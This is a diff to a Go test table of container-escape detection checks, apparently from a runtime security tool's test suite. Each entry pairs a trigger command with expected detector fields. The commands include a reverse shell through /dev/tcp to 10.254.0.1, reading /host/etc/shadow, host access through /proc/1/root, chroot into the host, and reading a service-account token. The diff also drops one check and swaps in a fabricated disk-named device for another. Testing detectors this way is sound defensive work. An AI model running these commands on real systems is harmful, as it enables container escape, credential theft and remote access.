@@ -143,19 +143,20 @@ var hostChecks = []check{
 // the real host is mounted writable) and at /data (a writable volume).
 var containerChecks = []check{
 	{[]string{"Terminal shell in container"}, "-t sh -c 'true {T}'", map[string]string{"proc.name": "sh", "container.id": "{C}"}},
-	{[]string{"Shell started by non-shell program in container"}, "/bin/nice /bin/sh -c 'true {T}'", map[string]string{"proc.name": "sh", "proc.cmdline": "sh -c true {T}", "container.id": "{C}"}},
+	{[]string{"Shell started by non-shell program in container"}, "/bin/time /bin/sh -c 'true {T}' 2>/dev/null", map[string]string{"proc.name": "sh", "proc.cmdline": "sh -c true {T}", "container.id": "{C}"}},
 	{[]string{"Download tool run in container"}, "/bin/wget -q -T 1 http://10.254.0.1/{T}", map[string]string{"proc.name": "wget", "container.id": "{C}"}},
 	{[]string{"Container escape or enumeration tool executed"}, "/bin/echo deepce {T}", map[string]string{"proc.name": "echo", "container.id": "{C}"}},
 	{[]string{"Cgroup filesystem mounted in container"}, "sh -c 'mkdir -p /mnt/cg-{T} && /bin/mount -t cgroup2 none /mnt/cg-{T} && umount /mnt/cg-{T}'", map[string]string{"proc.name": "mount", "container.id": "{C}"}},
 	{[]string{"Debugfs used from container"}, "sh -c 'mkdir -p /mnt/dbg-{T} && /bin/mount -t debugfs none /mnt/dbg-{T} && umount /mnt/dbg-{T}'", map[string]string{"proc.name": "mount", "container.id": "{C}"}},
-	{[]string{"Host block device opened in container"}, "sh -c '/bin/head -c 1 /dev/vda >/dev/null # {T}'", map[string]string{"proc.name": "head", "fd.name": "/dev/vda", "container.id": "{C}"}},
+	// /dev/vda cannot be opened on this machine (EPERM even for root on the host), so the
+	// check makes a block node named like a disk for the (unbound) loop0 and opens that.
+	{[]string{"Host block device opened in container"}, "/bin/mknod /dev/sdsaker{T} b 7 0 && /bin/head -c 1 /dev/sdsaker{T} >/dev/null; /bin/rm -f /dev/sdsaker{T}", map[string]string{"proc.name": "head", "fd.name": "/dev/sdsaker{T}", "container.id": "{C}"}},
 	{[]string{"Container runtime socket discovered in container"}, "/bin/ls /var/run/docker.sock-{T}", map[string]string{"proc.name": "ls", "container.id": "{C}"}},
-	{[]string{"Write to sysfs from container"}, "sh -c ': >> /sys/class/net/lo/tx_queue_len # {T}'", map[string]string{"proc.name": "sh", "fd.name": "/sys/class/net/lo/tx_queue_len", "container.id": "{C}"}},
+	{[]string{"Write to sysfs from container"}, "/bin/sh -c ': >> /sys/class/net/lo/tx_queue_len # {T}'", map[string]string{"proc.name": "sh", "fd.name": "/sys/class/net/lo/tx_queue_len", "container.id": "{C}"}},
 	{[]string{"Host process root filesystem accessed from container"}, "/bin/cat /proc/1/root/etc/hostname", map[string]string{"proc.name": "cat", "fd.name": "~/proc/1/root/", "container.id": "{C}"}},
 	{[]string{"Host credentials read through mount in container"}, "/bin/cat /host/etc/shadow", map[string]string{"proc.name": "cat", "fd.name": "/host/etc/shadow", "container.id": "{C}"}},
-	{[]string{"Write to host path through mount in container"}, "sh -c ': >> /host/etc/saker-{T}'", map[string]string{"proc.name": "sh", "fd.name": "/host/etc/saker-{T}", "container.id": "{C}"}},
+	{[]string{"Write to host path through mount in container"}, "/bin/sh -c ': >> /host/etc/saker-{T}'", map[string]string{"proc.name": "sh", "fd.name": "/host/etc/saker-{T}", "container.id": "{C}"}},
 	{[]string{"Chroot into host filesystem from container"}, "/bin/chroot /host /bin/true", map[string]string{"proc.name": "chroot", "container.id": "{C}"}},
-	{[]string{"Device node created in container"}, "/bin/mknod /tmp/node-{T} c 1 3", map[string]string{"proc.name": "mknod", "container.id": "{C}"}},
 	{[]string{"Process executed from writable volume in container"}, "sh -c 'cp /bin/busybox /data/tool-{T} && /data/tool-{T} true'", map[string]string{"proc.exepath": "/data/tool-{T}", "container.id": "{C}"}},
 	{[]string{"Service account token read by unexpected process", "Sensitive file read in container by shell", "Service account token used on command line"}, "sh -c 'mkdir -p /var/run/secrets/kubernetes.io/serviceaccount && echo t > /var/run/secrets/kubernetes.io/serviceaccount/token && /bin/cat /var/run/secrets/kubernetes.io/serviceaccount/token # {T}'", map[string]string{"container.id": "{C}"}},
 	{[]string{"Interpreter reverse shell pattern in container"}, "sh -c 'sh -i >& /dev/tcp/10.254.0.1/4444 0>&1 # {T}'", map[string]string{"proc.name": "sh", "container.id": "{C}"}},
